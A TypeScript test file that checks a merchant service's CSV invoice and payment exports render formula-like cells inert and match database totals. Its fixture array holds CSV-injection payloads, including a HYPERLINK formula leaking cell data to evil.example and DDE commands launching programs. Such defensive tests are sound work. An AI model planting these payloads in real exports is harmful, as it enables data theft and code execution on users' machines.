import { parse } from "csv-parse/sync";
import { sql } from "kysely";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { seedMerchantVolume } from "../../bench/listsSeed.ts";
import { bearer, claimedMerchant, type Merchant, readKeyOf } from "../accounts/accounts.ts";
import { startStack, type TestStack } from "../helpers/stack.ts";
import { invoiceRequest } from "../invoices/fixtures.ts";

type Json = Record<string, string>;

/** Formulas a spreadsheet would run from a cell beginning with them (OWASP CSV injection). */
const FORMULAS = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C notepad'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
];

/**
 * The attack: a vendor name or line description written as a formula, which an accountant's
 * spreadsheet would evaluate when opening the export (leaking the sheet, running a command).
 * Every cell beginning like a formula is written with a leading apostrophe: inert, shown as
 * text. The file is also checked as accounting data: RFC 4180 read back by a real parser
 * (csv-parse), one row per line item or payment, totals equal to the database's.
 */
describe("CSV exports: formula-looking cells are inert, and the numbers add up", () => {
  let stack: TestStack;
  let acme: Merchant;
  let reader: string;

  beforeAll(async () => {
    stack = await startStack();
    acme = await claimedMerchant(stack.db);
    reader = await readKeyOf(stack, acme);
    await seedMerchantVolume(stack.db, [acme.merchantId], {
      invoices: 1_200,
      payments: 1_500,
      links: 0,
    });
    for (const [i, formula] of FORMULAS.entries()) {
      const response = await stack.request("/api/invoices", {
        method: "POST",
        json: invoiceRequest({
          merchant_email: acme.email,
          send_now: false,
          vendor_name: formula,
          line_items: [
            { description: formula, quantity: 1, unit_price: "1.00" },
            {
              description: `Line, with "quotes"\nand a break ${i}`,
              quantity: 2,
              unit_price: "0.50",
            },
          ],
        }),
        headers: bearer(acme.key),
      });
      expect(response.status).toBe(201);
    }
  });
  afterAll(async () => {
    await stack?.stop();
  });

  const download = async (path: string) => {
    const response = await stack.request(path, { headers: bearer(reader) });
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toMatch(/^text\/csv/);
    expect(response.headers.get("content-disposition")).toMatch(/^attachment; filename=".+\.csv"$/);
    return response.text();
  };

  test("a formula-looking vendor name or description is written inert", async () => {
    const text = await download("/api/exports/invoices.csv");
    const records = parse(text, { bom: true, relax_quotes: false }) as string[][];
    for (const record of records)
      for (const cell of record) expect([cell, /^[=+\-@\t\r]/.test(cell)]).toEqual([cell, false]);
    const rows = parse(text, { bom: true, columns: true }) as Json[];
    for (const formula of FORMULAS) {
      const mine = rows.filter((r) => r.vendor_name === `'${formula}`);
      expect(mine.length).toBe(2);
      expect(mine.map((r) => r.description)).toContain(`'${formula}`);
    }
    expect(rows.some((r) => r.description?.startsWith('Line, with "quotes"\nand a break'))).toBe(
      true,
    );
  });

  test("invoices: RFC 4180, one row per line item, totals equal the database's", async () => {
    const text = await download("/api/exports/invoices.csv");
    // (Response.text() drops the byte order mark the file begins with.)
    expect(text.split("\r\n")[0]).toMatch(/^invoice_number,invoice_id,status,/);
    expect(text.endsWith("\r\n")).toBe(true);
    const rows = parse(text, { bom: true, columns: true }) as Json[];
    const { rows: db } = await sql<{ lines: string; total: string }>`
      select count(*)::text as lines, sum(l.line_total)::text as total
      from app.invoice_line_items l join app.invoices i on i.id = l.invoice_id
      where i.merchant_id = ${acme.merchantId}`.execute(stack.db);
    expect(rows.length).toBe(Number(db[0]?.lines));
    const units = (decimal: string) => {
      const [whole = "0", fraction = ""] = decimal.split(".");
      return BigInt(whole) * 1_000_000n + BigInt(fraction.padEnd(6, "0"));
    };
    expect(rows.reduce((sum, r) => sum + units(r.line_total as string), 0n)).toBe(
      BigInt(db[0]?.total ?? 0),
    );
    expect(rows.every((r) => /^\d+\.\d{2,6}$/.test(r.line_total as string))).toBe(true);
    expect(
      rows.every((r) => /^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d$/.test(r.created_at_utc as string)),
    ).toBe(true);
    // Oldest first, an invoice's lines together and in order.
    const created = rows.map((r) => r.created_at_utc as string);
    expect([...created].sort()).toEqual(created);
  });

  test("payments: one row per counted payment, totals equal the database's, a date range", async () => {
    const rows = parse(await download("/api/exports/payments.csv"), {
      bom: true,
      columns: true,
    }) as Json[];
    const { rows: db } = await sql<{ n: string; total: string; first: Date }>`
      select count(*)::text as n, sum(amount)::text as total, min(block_time) as first
      from app.payments where merchant_id = ${acme.merchantId}`.execute(stack.db);
    expect(rows.length).toBe(Number(db[0]?.n));
    const units = (decimal: string) => {
      const [whole = "0", fraction = ""] = decimal.split(".");
      return BigInt(whole) * 1_000_000n + BigInt(fraction.padEnd(6, "0"));
    };
    expect(rows.reduce((sum, r) => sum + units(r.amount as string), 0n)).toBe(
      BigInt(db[0]?.total ?? 0),
    );
    expect(rows[0]).toMatchObject({ kind: "invoice", currency: "USDC", explorer_url: "" });
    expect(rows.every((r) => /^0x[0-9a-f]{64}$/.test(r.tx_hash as string))).toBe(true);

    const firstAt = db[0]?.first;
    if (!(firstAt instanceof Date)) throw new Error("no first payment time in the database");
    const first = firstAt.toISOString();
    const one = parse(
      await download(
        `/api/exports/payments.csv?from=${first}&to=${new Date(Date.parse(first) + 1000).toISOString()}`,
      ),
      { bom: true, columns: true },
    ) as Json[];
    expect(one.length).toBeGreaterThan(0);
    // Times as spreadsheets read them: UTC, to the second.
    expect(one.every((r) => r.paid_at_utc === first.slice(0, 19).replace("T", " "))).toBe(true);
    const bad = await stack.request("/api/exports/payments.csv?from=yesterday", {
      headers: bearer(reader),
    });
    expect(bad.status).toBe(400);
  });
});
